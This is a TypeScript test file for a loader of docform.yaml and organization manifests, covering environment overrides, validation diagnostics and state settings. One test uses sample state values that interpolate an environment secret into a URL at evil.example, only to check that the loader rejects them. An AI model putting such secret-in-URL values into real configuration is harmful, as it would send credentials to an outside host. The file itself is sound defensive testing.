import { expect, test } from "vitest";
import { line, load } from "../../../test/support/projects/load-manifests.ts";
import { memoryFiles } from "../read/project-files.ts";
import { loadProject } from "./load-project.ts";

const manifest = { "manifests/a.yaml": "organization: acme\nteams: {}\n" };

const environments = `platform: { baseUrl: https://api.example/ }
organizations:
  acme: { id: org_1 }
environments:
  production:
    platform: { baseUrl: '\${env:PRODUCTION_URL}' }
    organizations: { acme: { id: '\${env:PRODUCTION_ID}' } }
  staging: {}
`;

test("an environment overrides the address and the ids; what it does not use need not be set", async () => {
  const files = { ...manifest, "docform.yaml": environments };
  const at = async (env: Record<string, string>, name?: string) => {
    const { baseUrl, desired, diagnostics } = await load(files, env, name);
    const [organization] = desired.organizations;
    return [baseUrl, organization?.id, organization?.source.line, diagnostics.map(line)];
  };
  expect(await at({})).toEqual(["https://api.example", "org_1", 3, []]);
  expect(await at({}, "staging")).toEqual(["https://api.example", "org_1", 3, []]);
  const env = { PRODUCTION_URL: "https://live.example", PRODUCTION_ID: "org_9" };
  expect(await at(env, "production")).toEqual(["https://live.example", "org_9", 7, []]);
  expect(await at({}, "production")).toEqual([
    undefined,
    undefined,
    undefined,
    [
      "DF1008 docform.yaml:6:26 the environment variable PRODUCTION_URL is not set",
      "DF1008 docform.yaml:7:34 the environment variable PRODUCTION_ID is not set",
    ],
  ]);
  expect(await at({}, "prodution")).toEqual([
    "https://api.example",
    "org_1",
    3,
    ['DF1011 docform.yaml:4:1 docform.yaml has no environment "prodution" | did you mean "production"?'],
  ]);
});

const twice = `variables: { main: org_1 }
organizations:
  acme: { id: "\${var:main}" }
  docs: { id: org_2 }
environments:
  staging:
    variables: { main: org_2 }
  production:
    organizations:
      acme: { id: "\${env:ACME}" }
      docs: { id: org_1 }
`;

test("an organization under two aliases is a mistake in the environment in which it is one, which shows no id", async () => {
  const files = { ...manifest, "docform.yaml": twice };
  const at = async (name: string | undefined, acme: string) => {
    const { diagnostics } = await load(files, { ACME: acme }, name);
    return diagnostics.map((one) => [line(one), one.related?.map(({ source }) => source.line)]);
  };
  const says = 'DF2002 docform.yaml:PLACE "acme" and "docs" are the same organization';
  expect(await at(undefined, "org_2")).toEqual([]);
  expect(await at("staging", "org_2")).toEqual([[says.replace("PLACE", "4:3"), [3]]]);
  expect(await at("production", "org_2")).toEqual([]);
  expect(await at("production", "org_1")).toEqual([[says.replace("PLACE", "11:7"), [10]]]);
});

test.each<[promise: string, settings: string, mistakes: string[]]>([
  [
    "an unknown field",
    "organizations: { acme: { id: a } }\nplatfrom: {}",
    ['DF1004 docform.yaml:2:1 unknown field "platfrom" | did you mean "platform"?'],
  ],
  ["an empty file", "", ["DF1006 docform.yaml:1:1 organizations is missing"]],
  ["a list", "[]", ["DF1005 docform.yaml:1:1 docform.yaml must be a map, not a list"]],
  [
    "an organization without an id",
    "organizations:\n  acme: {}",
    ["DF1006 docform.yaml:2:3 organizations.acme.id is missing"],
  ],
  [
    "an alias that is no key",
    "organizations:\n  acme: { id: a }\n  a.b: { id: b }",
    [
      'DF1005 docform.yaml:3:3 the key of organizations.a.b must be letters, digits, "-" and "_", with a letter or a digit first',
    ],
  ],
  [
    "an address that is no URL",
    "platform: { baseUrl: api.example }\norganizations: { acme: { id: a } }",
    ["DF1005 docform.yaml:1:22 platform.baseUrl must be an http or https URL"],
  ],
  [
    "the edition of the reference at the address of the published API",
    "platform: { baseUrl: 'https://api.gitbook.com', api: reference }\norganizations: { acme: { id: a } }",
    ["DF1005 docform.yaml:1:54 platform.api must be gitbook at api.gitbook.com"],
  ],
  [
    "an address with /v1",
    "platform: { baseUrl: 'https://x.example/v1/' }\norganizations: { acme: { id: a } }",
    ["DF1005 docform.yaml:1:22 platform.baseUrl must be written without /v1"],
  ],
  [
    "an environment with another organization",
    "organizations: { acme: { id: a } }\nenvironments: { x: { organizations: { acmee: { id: b } } } }",
    [
      'DF2003 docform.yaml:2:39 an environment overrides the organization "acmee", which is not listed | did you mean "acme"?',
    ],
  ],
  [
    "manifests that are not there, or outside",
    "organizations: { acme: { id: a } }\nmanifests: [manifests, docs, ../x, /etc]",
    [
      'DF1010 docform.yaml:2:24 there is no manifest folder or file "docs"',
      'DF1009 docform.yaml:2:30 manifests: "../x" lies outside the project folder',
      'DF1009 docform.yaml:2:36 manifests: "/etc" lies outside the project folder',
    ],
  ],
  [
    "a syntax error is all that is said",
    "organizations: [",
    [
      "DF1001 docform.yaml:1:17 not valid YAML: Flow sequence in block collection must be sufficiently indented and end with a ]",
    ],
  ],
])("docform.yaml: %s", async (_, settings, mistakes) => {
  const { diagnostics } = await load(
    { ...manifest, "docform.yaml": settings },
    {},
    settings.includes("environments") ? "x" : undefined,
  );
  expect(diagnostics.map(line)).toEqual(mistakes);
});

test.each<[promise: string, document: string, mistakes: string[]]>([
  [
    "an unknown organization",
    "organization: acne\nteams: {}",
    ['DF2003 manifests/a.yaml:1:15 docform.yaml has no organization "acne" | did you mean "acme"?'],
  ],
  ["no organization", "teams: {}", ["DF1006 manifests/a.yaml:1:1 organization is missing"]],
  [
    "an organization that is a number",
    "organization: 7",
    ["DF1005 manifests/a.yaml:1:15 organization must be a key"],
  ],
  ["a document that is a list", "- a", ["DF1005 manifests/a.yaml:1:1 a manifest must be a map"]],
])("a manifest: %s", async (_, document, mistakes) => {
  const { diagnostics } = await load({ "manifests/a.yaml": document });
  expect(diagnostics.map(line)).toEqual(mistakes);
});

test("no docform.yaml, and no manifests", async () => {
  const none = await loadProject("/somewhere", memoryFiles({}), { env: {} });
  expect(none.diagnostics.map(line)).toEqual(["DF1010 there is no docform.yaml in /somewhere"]);
  expect((await load({})).diagnostics.map(line)).toEqual([
    'DF1010 there is no manifest folder or file "manifests"',
  ]);
  const empty = await load({ "manifests/readme.md": "" });
  expect(empty.diagnostics.map(line)).toEqual(["DF1010 the project holds no manifests"]);
});

test("a file that cannot be parsed suppresses unknown references, and nothing else", async () => {
  const files = {
    "manifests/a.yaml": "organization: acme\nsaml: { okta: { label: Okta, defaultTeam: docs, labl: x } }",
    "manifests/b.yaml": "organization: acme\nteams: { docs: { title: [ }",
  };
  const codes = async (more: Record<string, string>) =>
    (await load({ ...files, ...more })).diagnostics.map(({ code, source }) => `${code} ${source?.file}`);
  expect(await codes({})).toEqual(["DF1004 manifests/a.yaml", "DF1001 manifests/b.yaml"]);
  expect(await codes({ "manifests/b.yaml": "organization: acme" })).toEqual([
    "DF2001 manifests/a.yaml",
    "DF1004 manifests/a.yaml",
  ]);
  const large = `organization: acme\nteams: {}\n#${"x".repeat(10 * 1024 * 1024)}`;
  expect(await codes({ "manifests/b.yaml": large })).toEqual([
    "DF1004 manifests/a.yaml",
    "DF1003 manifests/b.yaml",
  ]);
});

const placesOfState = `organizations: { acme: { id: org_1 } }
variables: { schema: docs }
state: { git: { ref: docform-state } }
environments:
  staging: {}
  production: { state: { postgres: { schema: '\${var:schema}' } } }
  laptop: { state: local }
`;

test.each([
  [undefined, { git: { ref: "docform-state" } }],
  ["staging", { git: { ref: "docform-state" } }],
  ["production", { postgres: { schema: "docs" } }],
  ["laptop", "local"],
])("the place of the state is that of the environment, or else of the project: %s", async (name, state) => {
  const files = { ...manifest, "docform.yaml": placesOfState };
  const project = await loadProject("/p", memoryFiles(files), { env: {} }, name);
  expect(project.diagnostics).toEqual([]);
  expect(project.state).toEqual(state);
});

test.each([
  ["git: { remote: 'https://evil.example/${env:SECRET}' }", 18],
  ["postgres: { schema: '${var:word}' }", 23],
  ["http: { address: 'https://evil.example/${env:SECRET:-x}' }", 20],
  ["http: { username: '${file:name.txt}' }", 21],
])(
  "state: %s takes nothing from the environment or a file, so that no secret leaves by it",
  async (state, column) => {
    const settings = `organizations: { acme: { id: org_1 } }\nvariables: { word: '\${env:SECRET}' }\nstate:\n  ${state}\n`;
    const files = { ...manifest, "docform.yaml": settings, "name.txt": "ana" };
    const project = await loadProject("/p", memoryFiles(files), { env: { SECRET: "hunter2" } });
    expect(project.state).toBeUndefined();
    expect(project.diagnostics.map(line)).toEqual([
      `DF1007 docform.yaml:4:${column} state takes no \${env:…} and no \${file:…}`,
    ]);
  },
);

test("without a word of it the state is local, and a mistake in it leaves it unknown", async () => {
  const loaded = (text: string) =>
    loadProject("/p", memoryFiles({ ...manifest, "docform.yaml": text }), { env: {} });
  const organizations = "organizations: { acme: { id: org_1 } }\n";
  expect((await loaded(organizations)).state).toBe("local");
  const wrong = await loaded(`${organizations}state: { http: { adress: x } }\n`);
  expect(wrong.state).toBeUndefined();
  expect(wrong.diagnostics.map(line)).toEqual([
    'DF1004 docform.yaml:2:18 unknown field "adress" | did you mean "address"?',
  ]);
});
